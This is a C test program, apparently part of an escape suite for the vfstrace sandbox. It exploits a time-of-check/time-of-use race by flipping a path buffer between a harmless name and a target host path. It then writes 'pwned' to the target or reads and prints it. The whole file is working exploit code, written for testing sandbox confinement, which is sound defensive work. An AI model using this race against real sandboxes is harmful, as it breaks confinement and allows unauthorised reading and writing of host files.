/* SPDX-License-Identifier: MIT */
/*
 * A path buffer flipped by a sibling thread between vfstrace's read and
 * the kernel's: race_flip write|read DIR TARGET.  In DIR (a fresh
 * directory: under -u it lies in the upper, and a relative name there is
 * passed to the kernel as the tracee gave it) the main thread loops
 * opening "x" (write: O_WRONLY|O_CREAT, then writes "pwned"; read: a
 * harmless "x" made first, reads and prints what it got) while a second thread flips the same buffer
 * between "x" and the absolute TARGET.  Whenever vfstrace reads "x" and
 * the kernel reads TARGET, the call reaches the host.  Natively the same
 * flip opens TARGET (the judge sees the change).  Bounded to 3 seconds.
 */
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "escape.h"

static char buf[4096];
static const char *target;
static atomic_int stop;

static void *flipper(void *arg)
{
	size_t n = strlen(target) + 1;

	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		memcpy(buf, target, n);
		memcpy(buf, "x", 2);
	}
	return NULL;
}

/* One try; 1 when it got TARGET (natively: always). */
static int one(const char *path, int write_mode)
{
	char got[256];
	ssize_t n;
	int fd = open(path, write_mode ? O_WRONLY | O_CREAT : O_RDONLY, 0644);

	if (fd < 0)
		return 0;
	if (write_mode) {
		n = write(fd, "pwned\n", 6);
	} else {
		n = read(fd, got, sizeof(got) - 1);
		if (n > 0 && write(1, got, n) < 0)
			n = -1;
	}
	close(fd);
	return n > 0;
}

int main(int argc, char **argv)
{
	int write_mode, tries = 0;
	pthread_t th;
	time_t end;

	if (argc != 4 || (strcmp(argv[1], "write") && strcmp(argv[1], "read")))
		setup_fail("usage: race_flip write|read DIR TARGET");
	write_mode = !strcmp(argv[1], "write");
	target = argv[3];
	if (strlen(target) >= sizeof(buf))
		setup_fail("TARGET too long");
	if ((mkdir(argv[2], 0755) && errno != EEXIST) || chdir(argv[2]))
		setup_fail("cannot enter %s: %s", argv[2], strerror(errno));
	if (!write_mode && !one("x", 1))	/* a harmless "x" to read */
		setup_fail("cannot make x: %s", strerror(errno));
	strcpy(buf, "x");
	if (pthread_create(&th, NULL, flipper, NULL))
		setup_fail("pthread_create");
	end = time(NULL) + 3;
	while (time(NULL) < end) {
		tries++;
		one(buf, write_mode);
	}
	atomic_store(&stop, 1);
	pthread_join(th, NULL);
	fprintf(stderr, "%d tries\n", tries);
	return 0;
}
